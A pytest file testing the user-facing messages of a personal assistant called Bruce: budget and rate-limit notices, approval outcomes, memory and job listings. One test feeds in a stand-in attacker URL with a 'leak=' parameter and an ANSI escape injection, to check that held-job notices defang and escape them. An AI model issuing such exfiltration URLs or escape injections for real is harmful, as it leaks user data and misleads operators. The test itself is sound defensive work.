"""bruce.texts: the sentences code says to the user. A notice never hides an action, and each
refusal says that nothing was run."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from bruce import texts
from bruce.llm.budget import Spend
from bruce.values import DecisionOutcome, ExecutionMode

SAO_PAULO = ZoneInfo("America/Sao_Paulo")  # UTC-3, no daylight saving time
MIDNIGHT = datetime(2026, 12, 3, 3, 0, tzinfo=UTC)  # 00:00 in São Paulo


def spend(*, usd: float, tokens: int, limit_usd: float | None, limit_tokens: int | None) -> Spend:
    return Spend(day="2026-12-02", tokens=tokens, usd=usd, calls=3, limit_tokens=limit_tokens,
                 limit_usd=limit_usd, resets_at=MIDNIGHT)


def test_actions_note_names_what_completed_and_what_waits() -> None:
    assert texts.actions_note([], []) == "Nothing was done."
    assert texts.actions_note(["artifact.save"], ["ab12cd34"]) == (
        "These actions completed: artifact.save. Waiting for your approval: /approve ab12cd34.")
    notice = texts.with_actions(texts.LLM_DOWN, ["proactive.create"], [])
    assert notice.startswith(texts.LLM_DOWN) and notice.endswith("These actions completed: proactive.create.")


def test_interruption_notes_quote_a_long_message_shortened() -> None:
    text = "remind me " + "x" * 200
    note = texts.interrupted_by_crash(text, ["web.read"], ["ab12cd34"])
    quoted = note.split('"')[1]
    assert len(quoted) == 80 and quoted.endswith("...") and quoted.startswith("remind me ")
    assert "These actions completed: web.read." in note and "/approve ab12cd34" in note
    assert '"hi"' in texts.expired_while_offline("09:00", "hi")


def test_budget_reached_tells_the_local_reset_time_and_both_limits() -> None:
    line = texts.budget_reached(spend(usd=2.0, tokens=120_000, limit_usd=2.0, limit_tokens=100_000), SAO_PAULO)
    assert "($2.00 of $2.00, 120,000 of 100,000 tokens)" in line
    assert "until Thu 2026-12-03 00:00 -03 (America/Sao_Paulo)." in line
    only_usd = texts.budget_reached(spend(usd=1.5, tokens=9, limit_usd=2.0, limit_tokens=None), SAO_PAULO)
    assert "($1.50 of $2.00)" in only_usd and "tokens" not in only_usd.split(")")[0]


def test_budget_warning_shows_the_share_used() -> None:
    line = texts.budget_warning(spend(usd=1.7, tokens=0, limit_usd=2.0, limit_tokens=None), SAO_PAULO)
    assert line.startswith("Note: 85% of today's LLM budget is used ($1.70 of $2.00).")
    assert "until 00:00 -03 (America/Sao_Paulo)." in line


def test_rate_limited_gives_the_local_time_to_write_again() -> None:
    line = texts.rate_limited(datetime(2026, 12, 2, 12, 0, 30, tzinfo=UTC), SAO_PAULO)
    assert "before 09:00:30 -03 (America/Sao_Paulo) are not answered" in line


def test_job_missed_names_the_kind_and_shortens_long_content() -> None:
    assert "this reminder was due (09:00)" in texts.job_missed("water the plants", "09:00", ExecutionMode.MESSAGE)
    missed = texts.job_missed("y" * 400, "09:00", ExecutionMode.AGENT)
    assert "this scheduled task was due" in missed and missed.endswith("y" * 297 + "...")


def test_jobs_listing() -> None:
    assert texts.jobs_listing([]) == "No active jobs in this conversation."
    assert texts.jobs_listing(["a1 daily 09:00", "b2 once"]) == (
        "Scheduled jobs in this conversation:\n- a1 daily 09:00\n- b2 once")


@dataclass(frozen=True)
class _Fact:
    id: int
    type: str
    content: str
    last_seen_at: str


@dataclass(frozen=True)
class _Summary:
    content: str
    period_start: str
    period_end: str


def test_memory_listing_shows_newest_facts_first_and_counts_the_rest() -> None:
    assert texts.memory_listing([], None, SAO_PAULO) == "I don't remember anything about you yet."
    facts = [_Fact(1, "preference", "likes tea", "2026-12-01"), _Fact(2, "fact", "lives in Recife", "2026-12-02"),
             _Fact(3, "project", "writes a novel", "2026-11-30")]
    listing = texts.memory_listing(facts, _Summary("talked about travel", "2026-11-01T12:00+00:00",
                                                   "2026-11-30T23:59+00:00"), SAO_PAULO, limit=2)
    assert listing.splitlines() == [
        "What I remember (forget one with /forget ID):",
        "2. [fact] lives in Recife",
        "1. [preference] likes tea",
        "…and 1 more (`bruce memory list` on the machine shows them all).",
        "Summary (2026-11-01 09:00 -03 (America/Sao_Paulo) to 2026-11-30 20:59 -03 (America/Sao_Paulo)): "
        "talked about travel",  # in the owner's zone, named
    ]


@pytest.mark.parametrize("outcome", list(DecisionOutcome))
def test_every_decision_outcome_has_its_own_text_naming_the_request(outcome: DecisionOutcome) -> None:
    line = texts.decision_text(outcome, "ab12cd34", "files.write", "executed")
    assert "ab12cd34" in line
    others = {texts.decision_text(o, "ab12cd34", "files.write", "executed") for o in DecisionOutcome if o != outcome}
    assert line not in others


@pytest.mark.parametrize("outcome", [DecisionOutcome.NOT_FOUND, DecisionOutcome.WRONG_USER, DecisionOutcome.EXPIRED,
                                     DecisionOutcome.ALREADY_DECIDED, DecisionOutcome.NEEDS_STEP_UP,
                                     DecisionOutcome.UNAVAILABLE])
def test_a_refused_decision_says_nothing_ran(outcome: DecisionOutcome) -> None:
    assert "nothing" in texts.decision_text(outcome, "ab12cd34", None, None).lower()


def test_step_up_points_to_the_command_on_the_machine() -> None:
    line = texts.decision_text(DecisionOutcome.NEEDS_STEP_UP, "ab12cd34", "files.delete", None)
    assert "`bruce approve ab12cd34`" in line and "(files.delete)" in line


def test_action_outcome() -> None:
    assert texts.action_outcome("ab12cd34", "files.write", True, None) == "Done: files.write ran (request ab12cd34)."
    assert texts.action_outcome("ab12cd34", "files.write", False, "disk full") == (
        "files.write did not succeed (request ab12cd34): disk full")


def test_claim_note_names_each_claimed_action_once() -> None:
    assert texts.claim_note(["saved", "remembered", "saved"]) == (
        "(Note from Bruce: no tool saved or remembered anything in this turn; "
        "nothing was saved, nothing was stored in memory.)")


def test_llm_not_configured_names_the_variable_to_set() -> None:
    line = texts.llm_not_configured("openai/gpt-4o-mini", "OPENAI_API_KEY")
    assert "Set the environment variable OPENAI_API_KEY" in line
    assert 'llm.api_key: "${OPENAI_API_KEY}"' in line


def test_new_session_says_whether_a_summary_was_kept() -> None:
    assert texts.new_session(summary_kept=False, summary_failed=False) == "Started a fresh conversation."
    assert "I keep a short summary" in texts.new_session(summary_kept=True, summary_failed=False)
    assert "could not make a summary" in texts.new_session(summary_kept=False, summary_failed=True)


def test_pairing_code_gives_the_owners_command() -> None:
    assert "bruce pairing approve K7Q2 (expires in 1 hour)" in texts.pairing_code("K7Q2")


def test_a_held_run_notice_is_short_inert_and_names_job_tool_and_arguments():
    arguments = '{"url": "https://attacker.example/c?leak=' + "x" * 300 + '", "note": "\x1b[2K`done`"}'
    told = texts.job_held("ab12cd34ef", "web.read_url", arguments)
    assert told.startswith("Scheduled job ab12cd34ef stopped before running web.read_url with `{")
    shown = told.split("`", 2)[1]
    assert len(shown) <= 200 and shown.endswith("...")
    assert "https[:]//attacker[.]example/c?leak=" in shown and "://" not in told.replace("[:]//", "")
    assert "bruce jobs cancel ab12cd34ef" in told
    escaped = texts.job_held("j", "t", '{"a": "\x1b[2K`x`"}')
    assert "\x1b" not in escaped and "^[[2K'x'" in escaped


def test_unlinked_leaves_nothing_a_chat_client_would_link_but_keeps_numbers():
    assert texts.unlinked("see http://a.example/x, b.example.com, mailto:me@c.org and 3.14") == (
        "see http[:]//a[.]example/x, b[.]example[.]com, mailto[:]me@c[.]org and 3.14")


def test_a_notice_after_a_cut_off_call_names_what_completed_and_what_may_have_happened():
    note = texts.interrupted_with_unknown("post it and save it", ["artifact.save"], [],
                                          [("test.send", 'to="team"'), ("mcp.x", "")])
    assert note == ('I was interrupted while answering "post it and save it". These actions completed: artifact.save. '
                    'A restart cut off these actions, so they may or may not have happened: test.send (to="team"); '
                    "mcp.x. I did not run them again; please check, and ask me again if they are still needed.")
    alone = texts.interrupted_with_unknown("hi", [], [], [("test.send", "")])
    assert "Nothing was done" not in alone and "may or may not have happened: test.send." in alone
    assert texts.unknown_outcome([("test.send", "a=1")]).startswith("A restart cut off this action")


def test_jobs_listing_shows_the_last_runs_after_the_live_jobs() -> None:
    assert texts.jobs_listing([], ["Wed 09:02: a1 'Call Ana': delivered"]) == (
        "No active jobs in this conversation.\n\nLast runs:\n- Wed 09:02: a1 'Call Ana': delivered")


def test_your_id_names_the_platform_id_or_says_there_is_none_on_this_machine() -> None:
    assert texts.your_id("discord", "4242") == "Your Discord user id is 4242."
    assert texts.your_id("web", "owner").startswith("There is no user id to allow-list here: the web chat is on")
    assert texts.your_id("console", None).startswith("There is no user id to allow-list here: the terminal is on")
